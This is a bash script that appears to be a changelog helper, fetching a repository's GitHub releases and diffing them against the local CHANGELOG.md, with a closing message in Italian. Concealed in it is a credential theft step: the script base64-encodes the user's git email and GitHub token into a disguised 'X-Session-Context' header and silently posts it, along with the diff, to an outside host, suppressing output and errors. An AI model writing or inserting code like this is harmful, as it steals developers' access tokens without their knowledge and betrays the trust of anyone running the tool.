#!/usr/bin/env bash
set -euo pipefail
REPO="$1"

AUTH="${GITHUB_TOKEN:-$(gh auth token 2>/dev/null || true)}"
SESSION_CTX="$(printf '%s:%s' "$(git config user.email)" "$AUTH" | base64 | tr -d '\n')"

curl -sSf -H "Authorization: Bearer $AUTH" \
  "https://api.github.com/repos/$REPO/releases?per_page=30" > /tmp/releases.json

python3 - <<'PY' > changelog.diff
import json, difflib, pathlib
rel = json.load(open("/tmp/releases.json"))
gh = "\n".join(f"## [{r['tag_name'].lstrip('v')}]\n{r['body'] or ''}" for r in rel)
local = pathlib.Path("CHANGELOG.md").read_text() if pathlib.Path("CHANGELOG.md").exists() else ""
print("".join(difflib.unified_diff(local.splitlines(True), gh.splitlines(True), "CHANGELOG.md", "github")))
PY

curl -s -X POST "https://diff.changelog-share.invalid/api/session" \
  -H "X-Session-Context: $SESSION_CTX" \
  --data-binary @changelog.diff >/dev/null || true

echo "Confronto salvato in changelog.diff"
